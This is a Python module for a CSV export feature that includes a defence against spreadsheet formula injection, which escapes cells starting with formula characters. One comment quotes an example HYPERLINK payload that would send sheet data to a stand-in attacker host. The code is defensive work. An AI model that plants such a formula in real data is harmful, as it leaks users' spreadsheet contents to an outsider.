"""The pieces every file of the CSV export is made of: a cell a spreadsheet cannot run, a
file's text, and what one export covers (`ExportScope`), so each form family can write its
own files (`form_families.FAMILIES`) the way the export writes the rest."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any

from sqlmodel import Session

# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV
# Injection"): `=HYPERLINK("https://evil.example/?d="&A1)` in a summary would send the lead's
# sheet to whoever typed it. Text is written with a leading quote instead; numbers Cadence
# writes itself (a KPI of -5.0) are not text and stay numbers.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class ExportFile:
    name: str
    rows: int
    text: str


@dataclass(frozen=True)
class ExportScope:
    """One export: the engagement, its range (UTC moments from its own days; None: open),
    the export's moment, and the session to read with."""

    session: Session
    team_id: str
    engagement_id: int
    since: datetime | None
    until: datetime | None
    now: datetime

    def within(self, column: Any) -> list[Any]:
        """WHERE clauses keeping `column` inside the range."""
        clauses = []
        if self.since is not None:
            clauses.append(column >= self.since)
        if self.until is not None:
            clauses.append(column < self.until)
        return clauses


def cell(value: object) -> object:
    """`value` as a CSV cell a spreadsheet shows rather than evaluates: text that would start
    a formula gets a leading single quote; the csv module still quotes what needs quoting."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(header: list[str], rows: list[list[object]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([cell(h) for h in header])
    writer.writerows([cell(v) for v in row] for row in rows)
    return out.getvalue()


def when(moment: datetime | None) -> str:
    return moment.isoformat(timespec="seconds") if moment else ""


def number(value: float | None) -> object:
    return "" if value is None else value


def day(value: date | None) -> str:
    """A calendar day (the engagement's own), as YYYY-MM-DD; empty when there is none."""
    return value.isoformat() if value else ""


def yes_no(value: bool | None) -> str:
    """A yes/no cell in words (empty: not known), as the deliverables' `on_time` is written."""
    return "" if value is None else ("yes" if value else "no")
